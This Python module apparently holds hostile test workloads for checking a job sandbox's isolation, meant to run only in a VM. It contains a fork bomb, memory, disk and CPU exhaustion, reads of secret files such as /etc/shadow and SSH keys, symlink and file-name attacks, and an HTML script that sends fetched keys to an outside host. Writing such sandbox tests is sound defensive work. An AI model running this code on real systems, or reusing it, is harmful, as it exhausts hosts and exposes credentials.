"""What the kinds do. Run these in a VM only: most of them hurt the host that lets them."""

from __future__ import annotations

import contextlib
import ctypes
import errno
import hashlib
import os
import random
import signal
import socket
import sys
import threading
import time
import uuid
from collections.abc import Callable, Mapping
from functools import partial
from pathlib import Path
from typing import Any, BinaryIO

from quetzalcore.workloads.task import TaskContext

_MIB = 1 << 20
_USUAL_TARGETS = (
    "/etc/quetzal-was-here", "/usr/quetzal-was-here", "/quetzal-was-here", "/in/quetzal-was-here",
    "/root/quetzal-was-here", "/home/quetzal-was-here",
    "/proc/sys/kernel/domainname", "/proc/sysrq-trigger", "/proc/1/oom_score_adj",
    "/sys/fs/cgroup/quetzal-was-here", "/sys/kernel/quetzal-was-here", "/dev/quetzal-was-here",
)  # fmt: skip
_USUAL_SECRETS = (
    "/proc/1/environ", "/proc/1/cmdline", "/proc/self/mountinfo", "/etc/shadow", "/root/.ssh/id_rsa",
    "/root/.bash_history", "/var/run/docker.sock", "/proc/kcore", "/dev/mem", "/proc/1/root/etc/hostname",
)  # fmt: skip


def forkbomb(task: TaskContext) -> Mapping[str, Any]:
    """Fork without end, in every process that comes of it."""
    until = time.monotonic() + task.params["seconds"]
    task.progress("forking", 0.0)
    failed = 0
    while time.monotonic() < until:
        try:
            if os.fork() == 0:
                os.setsid()
        except OSError:
            failed += 1
            time.sleep(0.01)
    return {"refused": failed}


def eat_memory(task: TaskContext) -> Mapping[str, Any]:
    """Take memory and touch it."""
    eaten: list[bytearray] = []
    try:
        while len(eaten) < task.params["mib"]:
            eaten.append(bytearray(b"\x01") * _MIB)
    except MemoryError:
        if not task.params["swallow"]:
            raise
    return {"eaten_mib": len(eaten)}


def spin(task: TaskContext) -> Mapping[str, Any]:
    """Burn CPU on many threads, those of a library that leaves the interpreter alone included."""
    until = time.monotonic() + task.params["seconds"]
    task.progress("spinning", 0.0)

    def burn() -> None:
        while time.monotonic() < until:
            hashlib.pbkdf2_hmac("sha256", b"spin", b"salt", 100_000)

    threads = [threading.Thread(target=burn, daemon=True) for _ in range(task.params["threads"])]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return {"threads": len(threads)}


def fill_out(task: TaskContext) -> Mapping[str, Any]:
    """Write until the place for results is full."""
    return _fill(task.output / "full.bin", task)


def fill_tmp(task: TaskContext) -> Mapping[str, Any]:
    """Write until the place for scratch files is full."""
    return _fill(Path("/tmp/full.bin"), task)  # noqa: S108 -- the VM's own


def _fill(path: Path, task: TaskContext) -> Mapping[str, Any]:
    written = 0
    block = os.urandom(_MIB)
    try:
        with path.open("wb", buffering=0) as stream:
            while written < task.params["mib"]:
                written += _write_all(stream, block)
    except OSError:
        if not task.params["swallow"]:
            raise
    return {"written_mib": written}


def _write_all(stream: BinaryIO | Any, block: bytes) -> int:  # noqa: ANN401 -- an unbuffered file
    done = 0
    while done < len(block):
        done += stream.write(block[done:])
    return 1


def open_sockets(task: TaskContext) -> Mapping[str, Any]:
    """Try every way out; ``opened`` should be empty."""
    tries: dict[str, Callable[[], None]] = {
        "internet": lambda: _connect(("1.1.1.1", 53)),
        "loopback": lambda: _connect(("127.0.0.1", 22)),
        "metadata": lambda: _connect(("169.254.169.254", 80)),
        "name": lambda: _connect((socket.gethostbyname("example.com"), 80)),
        "udp": _send_udp,
        "raw": lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1).close(),
        "packet": lambda: socket.socket(17, socket.SOCK_RAW, 3).close(),
        "docker": lambda: _unix("/var/run/docker.sock"),
        "dbus": lambda: _unix("/run/dbus/system_bus_socket"),
    }
    for host, port in task.params["addresses"]:
        tries[f"{host}:{port}"] = partial(_connect, (host, port))
    for path in task.params["unix"]:
        tries[path] = partial(_unix, path)
    return _attempts(tries, "opened")


def _connect(address: tuple[str, int]) -> None:
    socket.create_connection(address, timeout=1.0).close()


def _send_udp() -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        out.sendto(b"hello", ("1.1.1.1", 53))


def _unix(path: str) -> None:
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as out:
        out.connect(path)


def write_outside(task: TaskContext) -> Mapping[str, Any]:
    """Try to write where nothing of ours may be; ``written`` should be empty."""
    paths = (*(_USUAL_TARGETS if task.params["usual"] else ()), *task.params["paths"])
    return _attempts({path: partial(_scribble, path) for path in paths}, "written")


def _scribble(path: str) -> None:
    with open(path, "ab") as stream:  # noqa: PTH123 -- as plain as it gets
        stream.write(b"quetzal was here\n")


def _attempts(tries: Mapping[str, Callable[[], None]], done: str) -> dict[str, Any]:
    succeeded, refused = [], {}
    for name, attempt in tries.items():
        try:
            attempt()
            succeeded.append(name)
        except OSError as error:
            refused[name] = errno.errorcode.get(error.errno or 0, str(error))
    return {done: succeeded, "refused": refused}


def print_gigabyte(task: TaskContext) -> Mapping[str, Any]:
    """Say far too much."""
    line = "x" * 1023
    ways: dict[str, Callable[[str], object]] = {
        "stdout": lambda text: sys.stdout.write(text + "\n"),
        "stderr": lambda text: sys.stderr.write(text + "\n"),
        "log": task.log,
        "progress": lambda text: task.progress("talking", 0.5, text),
    }
    say = ways[task.params["through"]]
    for _ in range(task.params["mib"] * 1024):
        say(line)
    return {"printed_mib": task.params["mib"]}


def ignore_sigterm(task: TaskContext) -> Mapping[str, Any]:
    """Ignore every polite request, here and in a child of another session."""
    for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGQUIT):
        with contextlib.suppress(ValueError):  # only the main thread may
            signal.signal(number, signal.SIG_IGN)
    child = os.fork()
    if child == 0:
        os.setsid()
    until = time.monotonic() + task.params["seconds"]
    if child:
        task.progress("ignoring", 0.5)
    while time.monotonic() < until:
        time.sleep(0.05)
    if child == 0:
        os._exit(0)
    os.waitpid(child, 0)
    return {"ignored": True}


def crash(task: TaskContext) -> Mapping[str, Any]:
    """End as badly as a process can."""
    how = task.params["how"]
    if how == "segfault":
        ctypes.string_at(0)
    elif how == "abort":
        os.abort()
    elif how == "kill":
        os.kill(os.getpid(), signal.SIGKILL)
    elif how == "stack":
        sys.setrecursionlimit(10**9)
        _deeper(0)
    raise RuntimeError("the task has a defect")


def _deeper(depth: int) -> int:
    return _deeper(depth + 1) + 1


def exit_silently(task: TaskContext) -> Mapping[str, Any]:
    """End without a word."""
    os._exit(task.params["status"])


def hostile_outputs(task: TaskContext) -> Mapping[str, Any]:
    """Leave things in the output folder that would hurt whoever takes them for files."""
    makers: dict[str, Callable[[TaskContext], None]] = {
        "links": _links,
        "special": _special,
        "names": _names,
        "many": _many,
        "deep": _deep,
        "sparse": _sparse,
        "locked": _locked,
        "html": _html,
    }
    for which in task.params["which"]:
        with contextlib.suppress(OSError):
            makers[which](task)
    (task.output / "honest.txt").write_text("a product like any other\n", encoding="utf-8")
    return {"left": list(task.params["which"])}


def _links(task: TaskContext) -> None:
    for name, target in {
        "passwd.txt": "/etc/passwd", "up.txt": "../../../../etc/passwd", "folder": "/",
        "self": "self", "environ": "/proc/self/environ",
    }.items():  # fmt: skip
        (task.output / name).symlink_to(target)
    for number, path in enumerate(task.inputs.values()):
        with contextlib.suppress(OSError):
            (task.output / f"hard-{number}").hardlink_to(path)


def _special(task: TaskContext) -> None:
    os.mkfifo(task.output / "fifo")
    with socket.socket(socket.AF_UNIX) as bound, contextlib.suppress(OSError):
        bound.bind(str(task.output / "socket"))
    with contextlib.suppress(OSError):
        os.mknod(task.output / "null", 0o020666, os.makedev(1, 3))


def _names(task: TaskContext) -> None:
    for name in (
        "new\nline.txt", "-rf", "a" * 255, " ", "back\\slash", "..x", "...", "con.txt", "ünïcödé.txt",
        "\x1b[31mred.txt", "per%2e%2e%2fcent", "semi;colon", "quote\"'.txt", "\u202egpj.exe",
    ):  # fmt: skip
        with contextlib.suppress(OSError):
            (task.output / name).write_bytes(b"x")
    with contextlib.suppress(OSError):
        (Path(os.fsdecode(os.fsencode(task.output) + b"/\xff\xfe.bin"))).write_bytes(b"x")


def _many(task: TaskContext) -> None:
    folder = task.output / "many"
    folder.mkdir()
    for number in range(task.params["count"]):
        (folder / f"{number:06}.txt").write_bytes(b"")


def _deep(task: TaskContext) -> None:
    here = task.output
    for _ in range(200):
        here = here / "deep"
        here.mkdir()
    (here / "bottom.txt").write_bytes(b"x")


def _sparse(task: TaskContext) -> None:
    with (task.output / "sparse.bin").open("wb") as stream:
        stream.truncate(1 << 40)


def _locked(task: TaskContext) -> None:
    path = task.output / "locked.bin"
    path.write_bytes(b"x")
    path.chmod(0o000)
    folder = task.output / "locked"
    folder.mkdir()
    (folder / "inside.txt").write_bytes(b"x")
    folder.chmod(0o000)


def _html(task: TaskContext) -> None:
    (task.output / "report.html").write_text(
        "<script>fetch('/api/keys').then(r => location = 'https://example.com/?' + r)</script>",
        encoding="utf-8",
    )


def giant_result(task: TaskContext) -> Mapping[str, Any]:
    """Give back what no document may hold."""
    how, size = task.params["how"], task.params["mib"] * _MIB
    if how == "long":
        return {"text": "x" * size}
    if how == "list":
        return {"numbers": [0] * (size // 2)}
    if how == "nan":
        return {"value": float("nan"), "other": float("inf")}
    if how == "object":
        return {"value": object()}
    nested: dict[str, Any] = {}
    for _ in range(100_000):
        nested = {"d": nested}
    return nested


def random_number(task: TaskContext) -> Mapping[str, Any]:
    """Give back everything that should differ from one job to the next."""
    drawn: dict[str, Any] = {
        "seed": task.seed,
        "random": random.random(),  # noqa: S311 -- the plain one is what matters
        "system": random.SystemRandom().random(),
        "bytes": os.urandom(8).hex(),
        "uuid": str(uuid.uuid4()),
        "hash": hash("quetzal"),
    }
    if "numpy" in sys.modules:  # where the VM has it warm, its state was there before the job
        drawn["numpy"] = float(sys.modules["numpy"].random.random())
        drawn["numpy_fresh"] = float(sys.modules["numpy"].random.default_rng().random())
    return drawn


def read_secrets(task: TaskContext) -> Mapping[str, Any]:
    """Give back everything that can be read of others; the caller knows what must not be in it."""
    paths = (*(_USUAL_SECRETS if task.params["usual"] else ()), *task.params["paths"])
    read, refused = {}, {}
    for path in paths:
        try:
            read[path] = _look(Path(path))
        except OSError as error:
            refused[path] = errno.errorcode.get(error.errno or 0, str(error))
    return {
        "environment": dict(os.environ),
        "read": read,
        "refused": refused,
        "processes": _processes(),
        "signalled": _signalled(),
        "inputs": sorted(task.inputs),
        "tmp": sorted(p.name for p in Path("/tmp").iterdir()),  # noqa: S108 -- that is the point
        "descriptors": _descriptors(),
    }


def _look(path: Path) -> str:
    if path.is_dir():
        return "folder: " + ", ".join(sorted(p.name for p in path.iterdir())[:50])
    with path.open("rb") as stream:
        return _printable(stream.read(2000))


def _printable(content: bytes) -> str:
    return content.decode("latin-1").replace("\0", "\n")


def _processes() -> dict[str, str]:
    found = {}
    for folder in Path("/proc").glob("[0-9]*"):
        with contextlib.suppress(OSError):
            found[folder.name] = _printable((folder / "cmdline").read_bytes())[:200]
    return found


def _signalled() -> list[int]:
    """Name the foreign processes that would take a signal from us; nothing is sent."""
    reached = []
    for pid in range(1, 5000):
        with contextlib.suppress(OSError):
            os.kill(pid, 0)
            reached.append(pid)
    return reached


def _descriptors() -> dict[str, str]:
    found = {}
    for entry in Path("/proc/self/fd").iterdir():
        with contextlib.suppress(OSError):
            found[entry.name] = str(entry.readlink())
    return found


def sum_file(task: TaskContext) -> Mapping[str, Any]:
    """Behave: digest the input, write so many bytes that follow from it, and say both digests."""
    digest = hashlib.sha256(task.params["tag"].encode())
    read = 0
    for path in task.inputs.values():
        with path.open("rb") as stream:
            while block := stream.read(_MIB):
                digest.update(block)
                read += len(block)
    if task.params["sleep_s"]:
        time.sleep(task.params["sleep_s"])
    made = _follow(digest.digest(), task.params["size"])
    (task.output / "sum.bin").write_bytes(made)
    return {
        "sha256": digest.hexdigest(),
        "size": read,
        "artifact": "sum.bin",
        "artifact_sha256": hashlib.sha256(made).hexdigest(),
    }


def _follow(start: bytes, size: int) -> bytes:
    return (start * (size // len(start) + 1))[:size]
